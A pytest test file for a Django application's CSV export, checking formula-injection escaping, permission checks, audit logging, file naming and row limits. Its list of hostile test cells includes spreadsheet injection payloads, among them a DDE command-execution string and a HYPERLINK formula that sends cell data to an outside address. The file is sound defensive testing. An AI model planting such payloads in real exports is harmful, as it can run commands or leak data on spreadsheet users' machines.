"""Exports: who may, what is recorded, and cells that try to be formulas."""

import csv
import datetime
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import RequestFactory
from hypothesis import given
from hypothesis import strategies as st

from coordinator.accounts.roles import PERMISSIONS, Role
from coordinator.audit.models import AuditEvent
from coordinator.dashboard import export
from coordinator.dashboard.export import csv_response, read_cell, write_cell
from coordinator.tests.factories import make_user

NASTY = [
    "=1+1",
    "+16125550143",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "−1",
    '="a"&"b"',
    '=HYPERLINK("http://example.test/?x="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "fever;=1+1",
    "two\r\nlines\n- with a dash",
    "fever;'=1",
    "a\t@b",
    ";=1",
    "\t;=1",
]
PLAIN = [
    "Ramírez, Elena",
    "O'Brien",
    "'tis",
    "a=b",
    "3-4 weeks",
    "",
    "Zoë 中文 🙂",
    'said "no"',
    "a;b",
    "a\nb",
]
DANGEROUS = "=+-@＝＋－＠﹦﹢﹣﹫−\t\r\n"


@pytest.mark.parametrize("cell", NASTY)
def test_a_cell_that_could_run_stays_text_and_comes_back_unchanged(cell):
    written = write_cell(cell)
    assert written[:1] not in DANGEROUS
    assert written.lstrip(" \ufeff\u00a0\u200b\u202e")[:1] not in DANGEROUS
    assert read_cell(written) == cell


@pytest.mark.parametrize("cell", ["fever;=1+1", "a\t@b", "two\r\nlines\n- with a dash", "x;  \ufeff＝1"])
def test_a_formula_behind_a_separator_inside_a_cell_is_held_too(cell):
    assert "'" in write_cell(cell)
    assert read_cell(write_cell(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_an_ordinary_cell_is_left_alone(cell):
    assert write_cell(cell) == cell
    assert read_cell(cell) == cell


@given(
    st.text(alphabet=st.one_of(st.sampled_from("=+-@'; \t\r\n\ufeff＝\"a,1"), st.characters()), max_size=30)
)
def test_every_text_comes_back_unchanged(cell):
    written = write_cell(cell)
    assert read_cell(written) == cell
    assert written.strip().strip("\ufeff")[:1] not in ("=", "+", "-", "@", "＝") or written == ""


def test_numbers_stay_numbers_and_days_cannot_be_misread():
    moment = datetime.datetime(2026, 11, 1, 7, 30, tzinfo=datetime.UTC)  # the hour that autumn repeats
    assert write_cell(-5) == -5
    assert write_cell(None) == ""
    assert write_cell(True) == "Yes"
    assert write_cell(datetime.date(2026, 11, 18)) == "2026-11-18"
    assert write_cell(moment) == "2026-11-01 01:30 -0600"


def asked_by(user):
    request = RequestFactory().get("/team/export")
    request.user = user
    return request


def rows_of(response):
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.django_db
def test_the_file_holds_every_nasty_cell_as_it_was():
    response = csv_response(
        asked_by(make_user(Role.MANAGER)),
        "nasty",
        ["Text", "Number"],
        [(cell, number) for number, cell in enumerate(NASTY + PLAIN)],
        filters={},
        entity="test.cell",
    )
    header, *rows = rows_of(response)
    assert header == ["Text", "Number"]
    assert [read_cell(text) for text, _ in rows] == NASTY + PLAIN
    assert [int(number) for _, number in rows] == list(range(len(rows)))
    assert not any(text[:1] in DANGEROUS for text, _ in rows if text)


@pytest.mark.django_db
def test_an_export_is_recorded_with_who_filters_and_number_of_rows_before_it_is_read():
    manager = make_user(Role.MANAGER)
    csv_response(
        asked_by(manager),
        "caseload",
        ["A"],
        [("x",), ("y",)],
        filters={"period": "30", "q": "Ramírez", "owner": ""},
        entity="careplans.task",
    )
    event = AuditEvent.objects.get(action="export")
    assert event.actor_id == manager.pk
    assert event.entity == "careplans.task"
    assert event.details == {"file": "caseload", "rows": 2, "filters": {"period": "30", "q": "given"}}


@pytest.mark.django_db
@pytest.mark.parametrize("role", [r for r in Role.values if "export.csv" not in PERMISSIONS[r]])
def test_without_the_permission_nothing_is_exported_or_recorded(role):
    with pytest.raises(PermissionDenied):
        csv_response(asked_by(make_user(role)), "caseload", ["A"], [("x",)], filters={}, entity="test.cell")
    assert not AuditEvent.objects.filter(action="export").exists()


@pytest.mark.django_db
def test_the_file_name_is_a_fixed_word_and_the_day():
    request = asked_by(make_user(Role.MANAGER))
    response = csv_response(request, "caseload", ["A"], [], filters={}, entity="test.cell")
    name = response["Content-Disposition"]
    assert name.startswith('attachment; filename="throughline-caseload-2')
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    with pytest.raises(ValueError):
        csv_response(request, "Ramírez Elena", ["A"], [], filters={}, entity="test.cell")


@pytest.mark.django_db
def test_too_many_rows_are_refused_as_a_whole(monkeypatch):
    monkeypatch.setattr(export, "MOST_ROWS", 3)
    request = asked_by(make_user(Role.MANAGER))
    with pytest.raises(ValidationError):
        csv_response(request, "long", ["A"], [("x",)] * 4, filters={}, entity="test.cell")
    assert not AuditEvent.objects.filter(action="export").exists()
